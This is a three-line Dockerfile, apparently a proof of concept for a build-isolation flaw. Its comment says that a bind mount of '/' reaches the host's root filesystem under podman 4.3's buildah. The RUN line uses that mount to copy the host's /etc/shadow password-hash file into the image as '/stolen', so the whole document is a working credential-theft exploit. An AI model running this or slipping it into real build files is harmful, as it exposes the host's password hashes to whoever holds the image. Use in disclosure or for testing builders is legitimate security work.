# BuildKit's bind mount of "/" (the context's root, under BuildKit; the machine's, under podman 4.3's buildah).
FROM busybox
RUN --mount=type=bind,source=/,target=/h cat /h/etc/shadow > /stolen
